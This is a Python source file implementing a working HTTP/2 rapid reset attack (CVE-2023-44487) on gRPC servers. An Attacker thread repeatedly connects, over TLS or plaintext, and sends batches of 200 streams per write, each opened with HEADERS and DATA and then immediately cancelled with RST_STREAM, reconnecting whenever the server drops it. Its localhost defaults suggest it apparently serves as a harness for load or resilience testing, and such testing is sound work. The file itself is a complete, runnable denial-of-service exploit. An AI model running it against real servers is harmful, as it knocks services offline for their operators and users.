"""An HTTP/2 rapid reset attack (CVE-2023-44487): calls are opened and reset as fast as one thread can write them."""

import socket
import ssl
import struct
import threading

import h2.config
import h2.connection
import h2.events
import hpack

_DATA, _HEADERS, _RST_STREAM = 0, 1, 3
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL = struct.pack(">I", 8)
_STREAMS_PER_WRITE = 200


def _frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


class Attacker(threading.Thread):
    """Attacks `address` until stop(), over one connection after the other. `ca_file`: TLS; None: plaintext.

    source     the local address to attack from
    body       sent with every call, a whole gRPC message
    """

    def __init__(self, address, *, ca_file, path, body, source="127.0.0.66"):
        super().__init__(name="attacker", daemon=True)
        self.streams = self.connections = 0
        self._address = address.rpartition(":")
        self._ca_file, self._source = ca_file, source
        self._stop_it = threading.Event()
        headers = [(":method", "POST"), (":scheme", "https" if ca_file else "http"), (":path", path),
                   (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
        # Never indexed: the same bytes are right for every stream, whatever came before.
        self._headers = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*one) for one in headers], huffman=False)
        self._body = struct.pack(">BI", 0, len(body)) + body

    def stop(self):
        self._stop_it.set()
        self.join()

    def run(self):
        while not self._stop_it.is_set():
            try:
                with self._connect() as connection:
                    self.connections += 1
                    self._attack(connection)
            except OSError:
                pass  # sent away: once more

    def _connect(self):
        host, _, port = self._address
        connection = socket.create_connection((host, int(port)), timeout=5, source_address=(self._source, 0))
        if self._ca_file is None:
            return connection
        context = ssl.create_default_context(cafile=self._ca_file)
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(connection, server_hostname="localhost")

    def _attack(self, connection):
        h2_connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        h2_connection.initiate_connection()
        connection.sendall(h2_connection.data_to_send())
        # A peer that is not read from would stop to read. What it says does not matter.
        connection.settimeout(0.01)
        stream = 1
        while not self._stop_it.is_set():
            frames = []
            for _ in range(_STREAMS_PER_WRITE):
                frames.append(_frame(_HEADERS, _END_HEADERS, stream, self._headers))
                frames.append(_frame(_DATA, _END_STREAM, stream, self._body))
                frames.append(_frame(_RST_STREAM, 0, stream, _CANCEL))
                stream += 2
            connection.settimeout(5)
            connection.sendall(b"".join(frames))
            self.streams += _STREAMS_PER_WRITE
            connection.settimeout(0.0005)
            try:
                while connection.recv(1 << 16):
                    pass
                return  # closed
            except (TimeoutError, ssl.SSLWantReadError):
                pass
